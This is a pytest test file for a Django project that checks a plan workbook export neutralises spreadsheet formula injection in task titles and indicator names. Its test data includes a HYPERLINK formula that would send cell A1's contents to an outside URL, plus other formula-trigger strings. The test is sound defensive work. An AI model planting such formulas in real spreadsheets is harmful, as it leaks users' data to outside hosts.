"""Task titles are anyone's text: in the plan's workbook a title that starts like a formula is
a text cell, shown as typed and never evaluated, while numbers and dates stay numbers and dates."""

from __future__ import annotations

import datetime
import io
import re
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from phoihop.plans import documents as generators

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://example.com/?"&A1,"Bấm vào đây")'


def test_it_writes_a_formula_like_task_title_as_text(plan: Any) -> None:
    plan.tasks.filter(number=1).update(title=TITLE)
    plan.tasks.filter(number=2).update(title="+84 912 345 678")
    # Notes never print in an official document: the indicator's name carries the third case.
    from phoihop.plans.models import Indicator

    Indicator.objects.filter(task__plan=plan, task__number=1).update(name="@SUM(A1:A9)")
    data = generators.plan_workbook(plan)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    # The only formulas are the workbook's own totals (SUM over a column of the sheet).
    formulas = [f for sheet in sheets for f in re.findall(r"<f>(.*?)</f>", sheet)]
    assert all(re.fullmatch(r"SUM\([A-Z]+\d+:[A-Z]+\d+\)", f) for f in formulas), formulas

    wb = load_workbook(io.BytesIO(data))
    cells = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}
    for text in (TITLE, "+84 912 345 678", "@SUM(A1:A9)"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    # Real numbers and dates are untouched.
    first = next(r for r in wb["Nhiệm vụ"].iter_rows(values_only=True) if r[1] == TITLE)
    assert first[0] == 1 and isinstance(first[0], int)
    assert first[5].date() == datetime.date(2024, 3, 1)
    targets = list(wb["Chỉ tiêu"].iter_rows(values_only=True))
    assert any(r[0] == 1 and r[1] == TITLE and r[4] == 1250 for r in targets)
